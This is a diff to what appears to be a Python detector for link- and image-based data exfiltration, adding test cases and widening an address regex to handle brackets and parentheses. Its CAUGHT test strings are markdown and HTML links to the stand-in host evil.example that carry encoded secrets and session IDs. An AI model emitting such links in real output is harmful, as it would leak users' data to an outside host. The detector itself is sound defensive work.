@@ -18,6 +18,8 @@ CAUGHT = (
     "![logo](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)",
     "[click](https://evil.example/collect?session=8f14e45fceea167a)",
     '<img src="https://evil.example/x?q=the+secret+is">',
+    "![x](https://evil.example/p(a)?d=c2VjcmV0IGRhdGE)",
+    "![x](https://evil.example/[p]?d=c2VjcmV0IGRhdGE)",
     "![x](//evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh)",
 )
 CLEAN = (
@@ -28,7 +30,10 @@ CLEAN = (
     "see https://example.org/docs?page=2",
 )
 
-_ADDRESS = r"(?:https?:)?//[^\s()\[\]<>\"']{1,2000}"
+# Brackets and balanced parentheses are part of an address; "](" begins another link, and without
+# that stop a flood of links never closed would be read again from each of them.
+_PART = r"(?:[^\s()<>\"'\]]|\](?!\())"
+_ADDRESS = rf"(?:https?:)?//{_PART}{{1,1500}}(?:\({_PART}{{0,100}}\){_PART}{{0,500}}){{0,3}}"
 _VALUE = re.compile(r"[?&#;][^=&#;]{0,40}=?([^&#;]*)")
 _LONG_PART = 24
 _LONG_VALUE = 6
